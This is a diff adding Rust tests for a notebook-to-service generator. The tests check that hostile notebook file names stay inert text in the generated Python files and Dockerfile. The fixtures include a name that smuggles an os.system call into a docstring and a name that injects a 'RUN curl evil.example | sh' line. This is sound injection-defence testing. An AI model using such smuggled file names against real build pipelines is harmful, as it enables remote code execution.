@@ -268,5 +268,108 @@ fn missing_requirements_is_a_warning() {
         .stderr(predicate::str::contains("warning: no --requirements given"));
 }
 
+/// The generated Python files of `out`: each parses, no `__import__` or `system` is a name or
+/// attribute anywhere (the payload is only text inside strings and comments), and each module
+/// docstring that names the notebook names it exactly.
+const PAYLOAD_IS_TEXT: &str = r#"
+import ast, sys
+out, name = sys.argv[1], sys.argv[2]
+for path in ["app/__init__.py", "app/main.py", "app/notebook.py"]:
+    tree = ast.parse(open(f"{out}/{path}", encoding="utf-8").read(), path)
+    for node in ast.walk(tree):
+        assert not (isinstance(node, ast.Name) and node.id == "__import__"), (path, node.lineno)
+        assert not (isinstance(node, ast.Attribute) and node.attr == "system"), (path, node.lineno)
+    assert name in ast.get_docstring(tree, clean=False), (path, ast.get_docstring(tree))
+print("ok")
+"#;
+
+#[test]
+fn a_notebook_name_cannot_close_the_docstrings_it_is_shown_in() {
+    use crate::support::{output_text, python, tool_or_skip, works};
+    let dir = tempfile::tempdir().unwrap();
+    let name = r#"x""" + str(__import__("os").system("id")) + """.ipynb"#;
+    let notebook = dir.path().join(name);
+    fs::copy(fixture("double.ipynb"), &notebook).unwrap();
+    let out = dir.path().join("svc");
+    nb2svc()
+        .arg(&notebook)
+        .arg("-o")
+        .arg(&out)
+        .arg("-q")
+        .assert()
+        .success();
+    let init = fs::read_to_string(out.join("app/__init__.py")).unwrap();
+    assert!(
+        init.contains(r#"x\"\"\" + str(__import__(\"os\").system(\"id\"))"#),
+        "{init}"
+    );
+    let test = "a_notebook_name_cannot_close_the_docstrings_it_is_shown_in";
+    if !tool_or_skip(test, works(python(), &["--version"]), "python3") {
+        return;
+    }
+    let checked = std::process::Command::new(python())
+        .args(["-c", PAYLOAD_IS_TEXT])
+        .arg(&out)
+        .arg(name)
+        .output()
+        .unwrap();
+    assert!(checked.status.success(), "{}", output_text(&checked));
+    // `import app` runs app/__init__.py only: it must print nothing (no `uid=` from `id`).
+    let imported = std::process::Command::new(python())
+        .args(["-c", "import app"])
+        .current_dir(&out)
+        .output()
+        .unwrap();
+    assert!(imported.status.success(), "{}", output_text(&imported));
+    assert_eq!(output_text(&imported), "");
+}
+
+#[test]
+fn a_newline_in_the_notebook_name_adds_no_dockerfile_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let plain = dir.path().join("plain");
+    nb2svc()
+        .arg(fixture("double.ipynb"))
+        .arg("-o")
+        .arg(&plain)
+        .arg("-q")
+        .assert()
+        .success();
+    let notebook = dir
+        .path()
+        .join("model\nRUN curl evil.example | sh\n#.ipynb");
+    fs::copy(fixture("double.ipynb"), &notebook).unwrap();
+    let out = dir.path().join("svc");
+    nb2svc()
+        .arg(&notebook)
+        .arg("-o")
+        .arg(&out)
+        .arg("-q")
+        .assert()
+        .success();
+    let instructions = |dir: &std::path::Path| -> Vec<String> {
+        fs::read_to_string(dir.join("Dockerfile"))
+            .unwrap()
+            .lines()
+            .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
+            .map(str::to_string)
+            .collect()
+    };
+    assert_eq!(instructions(&out), instructions(&plain));
+    let dockerfile = fs::read_to_string(out.join("Dockerfile")).unwrap();
+    let first = dockerfile.lines().next().unwrap();
+    assert!(
+        first.ends_with(r"from model\nRUN curl evil.example | sh\n#.ipynb."),
+        "{dockerfile}"
+    );
+    for file in ["README.md", "app/__init__.py", "app/notebook.py"] {
+        let text = fs::read_to_string(out.join(file)).unwrap();
+        assert!(
+            !text.lines().any(|l| l.starts_with("RUN curl")),
+            "{file}:\n{text}"
+        );
+    }
+}
+
 /// Hostile input (issue 9): deep nesting, colliding `%%writefile` targets, unbounded inputs.
 mod hostile;
